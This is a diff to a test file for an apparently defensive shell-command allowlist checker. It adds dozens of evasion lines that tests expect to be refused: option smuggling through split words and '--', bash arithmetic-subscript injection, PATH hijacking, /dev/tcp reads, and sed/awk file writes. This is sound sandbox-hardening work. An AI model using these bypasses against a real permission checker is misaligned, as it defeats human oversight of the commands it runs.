@@ -14,26 +14,27 @@ afterAll(() => rmSync(folder, { recursive: true, force: true }))
 /** A checkout with programs of its own, named like others, in folders that are never in PATH. */
 function checkout(): void {
   rmSync(folder, { recursive: true, force: true })
-  for (const own of ['evil', '10', '0']) {
+  for (const own of ['evil', '10', '0', 'a -oplanted']) {
     mkdirSync(join(folder, own), { recursive: true })
     for (const name of ['cat', 'head', 'git']) {
       writeFileSync(join(folder, own, name), '#!/bin/sh\n/usr/bin/touch planted\n')
       chmodSync(join(folder, own, name), 0o755)
     }
   }
-  writeFileSync(join(folder, 'f'), 'f\nx\n')
+  for (const name of ['f', 'a', '-x']) writeFileSync(join(folder, name), 'f\nx\n')
 }
 
 /** Whether a shell that runs a line here leaves anything behind. */
 function plants(line: string): boolean {
-  const before = readdirSync(folder).length
+  const count = () => readdirSync(folder, { recursive: true }).length
+  const before = count()
   spawnSync('/bin/bash', ['--norc', '-c', '--', line], {
     cwd: folder,
     env: { PATH: '/usr/bin:/bin', HOME: folder },
     timeout: 5000,
     stdio: ['ignore', 'ignore', 'ignore'],
   })
-  const planted = readdirSync(folder).length !== before
+  const planted = count() !== before
   if (planted) checkout()
   return planted
 }
@@ -50,7 +51,49 @@ const PLANTING = [
   'BASH_CMDS=([cat]=./evil/cat); cat f',
   'echo() { printf "$@"; }; echo -v PATH ./evil; cat f',
   'echo f | xargs --process-slot-var=PATH cat',
+  'time read -r PATH <<< ./evil; cat f',
+  'time -p -- printf -v PATH ./evil; cat f',
+  // Variables that are not what the line gives them.
+  'x=f; command printf -v x "f -oplanted"; sort $x',
+  'x=f; builtin read -r x <<< "f -oplanted"; sort $x',
+  'x=f; time read -r x <<< "f -oplanted"; sort $x',
+  'REPLY=f; read -r <<< "f -oplanted"; sort $REPLY',
+  'PWD=f; cd "a -oplanted"; sort $PWD',
+  'DIRSTACK=f; cd "a -oplanted"; sort $DIRSTACK',
+  'BASH_REMATCH=f; [[ "f -oplanted" =~ .* ]]; sort $BASH_REMATCH',
+  'IFS=:; x=f:-oplanted; sort $x',
+  'for IFS in X; do x=fX-oplanted; sort $x; done',
+  'printf -v IFS X; x=fX-oplanted; sort $x',
+  // Words that a shell splits.
+  'sort $(echo f -oplanted; true | wc -l)',
+  'sort $(echo f -oplanted || true | wc -l)',
+  'sort "$(echo -oplanted; true | wc -l)" f',
+  'cd "a -oplanted" && sort $(pwd)',
+  'x=$(pwd)" f -oplanted"; sort $x',
+  'x=$((10-10))" f -oplanted"; sort $x',
+  // Arithmetic and subscripts.
+  `x='b[$(touch planted)]'; read -r 'a[x]' <<< 1`,
+  `x='b[$(touch planted)]'; printf -v 'a[x]' 1`,
+  `x='b[$(touch planted)]'; printf -va[x] 1`,
+  `set -e -- 'b[$(touch planted)]'; echo $(($1))`,
+  `set -e 'b[$(touch planted)]'; [[ $1 -eq 0 ]]`,
+  `true() { echo \${a[$1]}; }; true 'b[$(touch planted)]'`,
+  `true() { echo $((\${1})); }; true 'b[$(touch planted)]'`,
+  `REPLY=1; read -r <<< 'b[$(touch planted)]'; echo $((REPLY))`,
+  `x=1; command read -r x <<< 'b[$(touch planted)]'; echo $((x))`,
+  `RANDOM='b[$(touch planted)]'; true`,
+  `HISTCMD='b[$(touch planted)]'; true`,
+  `OPTIND='b[$(touch planted)]'; true`,
+  `for SECONDS in 'b[$(touch planted)]'; do true; done`,
+  `read -r RANDOM <<< 'b[$(touch planted)]'`,
+  `printf -v OPTIND %s 'b[$(touch planted)]'; true`,
+  // A `--` that ends no options.
+  'sort --random-source -- -oplanted f',
+  'find . -name -- -fprint planted',
+  'find -- . -fprint planted',
+  'uniq -- -x planted',
   // Wrappers.
+  'xargs --max-lines touch cat planted < f',
   `env --split='touch planted' cat`,
   'env -iu cat touch planted',
   'command time -o planted cat f',
@@ -108,6 +151,31 @@ test.each([
   'git branch -a -m main other',
   'git remote -v rename origin other',
   'git remote -v set-branches origin other',
+  'git branch --list --no-list planted',
+  'git branch --list --no-l -D main',
+  'git branch --points-at HEAD --no-points-at planted',
+  'git branch --show-current --no-show-current planted',
+  'git grep -e -- -Otouch',
+  'git grep -nie -- -Otouch',
+  'git diff --no-index -O -- --output=planted f evil',
+  'git shortlog --author -- --output=planted',
+  'git blame -S -- --output=planted f',
+  'rg -e -- --pre=./evil/cat f',
+  'tree -P -- -o planted',
+  'find -files0-from f -exec sort {} +',
+  'find "$d" -exec sort {} +',
+  'f=x; cat < ${f#x}/dev/tcp/192.0.2.1/80',
+  'f=x; cat < ${f:+/dev/tcp/192.0.2.1/80}',
+  'sort $(echo f -oplanted \\| wc -l)',
+  // Which sed and which awk sees the end of brackets where, differs.
+  `sed 's/[/]/p;s/w ././g' f`,
+  `sed 's/[^]/A]/p;s/w ././g' f`,
+  `sed 's/[[.].]/]/p;s/w ././g' f`,
+  `sed 's/[[:alpha:]/A]/p;s/w ././g' f`,
+  `sed 's/[\\]/p;s/w ././g' f`,
+  `sed 's/f\\c[*/]/w planted/g' f`,
+  `awk '/x|[^]/ "]/ || 1 { print > "planted" } # "' f`,
+  `awk '/[[:alpha:]/ "]/ { print > "planted" } # "' f`,
 ])('is not allowed either: %s', async (line) => expect(await verdict(rules, `$ ${line}`)).not.toBe('allow'))
 
 test.each([
@@ -115,6 +183,25 @@ test.each([
   `awk '/a|b/ { if ($2 > 3) print ($1 + $2) / 2 }' f`,
   `awk '{ gsub(/[|>]/, "-"); print }' f`,
   `sed -nE -e 's/^(.*)$/\\1/p' f`,
+  `sed 's/[^/]*$//; s|[^|]*|x|' f`,
+  `sed -E 's/\\[([^]]*)\\]/\\1/g; s/[[:space:]]+/ /g' f`,
+  'git log --oneline -- "$f"',
+  'git diff --cached -- "$f"',
+  'git diff HEAD~1 -- $f',
+  'git grep -nw -- "$x" src',
+  'rg -n -- "$x" src',
+  'sort -ru -- "$f"',
+  'uniq -c -- f',
+  "git branch --list 'feature/*'",
+  'find src -name x -exec git log --oneline {} \\;',
+  `printf '[%s] $(x)\\n' "$f"`,
+  'x=$(( (1 + 2) * 3 )); head -n $x f; sort $x',
+  'x=$(git rev-parse HEAD); git show $x',
+  'sort "$(pwd)/f" | head -$(cat f | grep x | wc -l)',
+  'i=0; while [ $i -lt 3 ]; do echo $i; i=$((i + 1)); done',
+  'OPTIND=1; SECONDS=0; while IFS=: read -r a b; do echo "$a"; done < f',
+  'f=f; cat < "${f}"; wc -l < $f',
+  'xargs --max-lines=1 cat < f',
   'git branch',
   'git branch -avv --sort=-committerdate',
   `git branch -r --list 'origin/*'`,
